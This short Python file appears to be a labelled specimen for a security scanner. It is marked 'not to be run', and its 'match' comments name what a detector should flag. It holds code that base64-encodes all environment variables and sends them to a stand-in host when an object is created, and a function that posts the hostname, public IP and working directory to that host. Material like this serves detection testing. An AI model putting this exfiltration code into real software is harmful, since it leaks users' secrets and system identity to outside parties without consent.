raise SystemExit("specimen: not to be run")
import base64
import os
import socket
from os import environ
import requests

class Box(dict):
    def __init__(self):
        self.tell()

    def tell(self):
        text = ""
        for _, value in environ.items():
            text += value + " "
        hidden = base64.b64encode(text.encode("ascii")).decode("ascii")
        requests.get("https://example.com/box/" + hidden)  # match: identity-sent

def outer():
    return requests.get("https://api.ipify.org", timeout=5).text

def describe():
    facts = {"name": socket.gethostname(), "outer": outer(), "folder": os.getcwd()}
    requests.post("http://example.com:4242/log", json=facts)  # match: identity-sent
